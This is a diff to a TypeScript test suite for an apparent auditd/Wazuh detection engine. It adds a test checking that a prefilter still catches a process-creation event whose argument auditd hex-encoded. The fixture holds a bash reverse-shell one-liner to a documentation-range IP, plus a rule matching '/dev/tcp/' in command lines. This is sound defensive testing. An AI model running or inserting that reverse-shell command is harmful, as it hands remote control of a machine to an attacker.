@@ -10,6 +10,7 @@ import { describe, it } from 'node:test';
 import { auditRecords } from '../../src/detect/sources/auditd.js';
 import { loadRules, parseRuleFile, type DetectionRule, type RuleSet } from '../../src/detect/rules.js';
 import { SHARED } from '../helpers/fixtures.js';
+import { Prefilter } from '../../src/detect/prefilter.js';
 
 /** One rule from YAML text; asserts it loads. */
 function rule(yaml: string): DetectionRule {
@@ -81,6 +82,19 @@ describe('Linux auditd (decoder auditd, records read from full_log)', () => {
     assert.equal(r.match.wazuh(alert), true);
     assert.equal(r.match.wazuh(auditAlert(AUDIT_TOUCH, { type: 'SYSCALL', exe: '/bin/touch' })), false, 'no EXECVE record: not a process creation');
     assert.match(problem(`title: p\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {ParentImage|endswith: /java}\n  condition: s\n`), /^unsupported: field "ParentImage" of linux process_creation/);
+  });
+
+  it('the raw-line prefilter never skips an execve whose matching argument auditd hex-encoded', () => {
+    const set: RuleSet = { rules: [], problems: [], files: [] };
+    parseRuleFile(`title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {CommandLine|contains: '/dev/tcp/203.0.113.9'}\n  condition: s\n`, 'inline.yml', set);
+    const hex = Buffer.from('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1').toString('hex').toUpperCase();
+    // Without the ENRICHED part: its 0x1d separator is a JSON escape, which makes the prefilter parse the line anyway.
+    const line = AUDIT_EXECVE.replace(/\u001D.* type=EXECVE/, ' type=EXECVE').replace(/argc=6 .*$/, `argc=3 a0="bash" a1="-c" a2=${hex}`);
+    assert.ok(!/[\u0000-\u001f]/.test(line));
+    const alert = auditAlert(line, { type: 'SYSCALL', exe: '/usr/bin/bash' });
+    const r = set.rules[0] as DetectionRule;
+    assert.equal(r.match.wazuh(alert), true);
+    assert.equal(new Prefilter(set.rules).mayMatch(JSON.stringify(alert)), true, 'the literal is not in the raw line, only its hex');
   });
 
   it('process_creation without full_log falls back to Wazuh\'s decoded audit.execve.a0…a7 (SYNTHETIC alert)', () => {
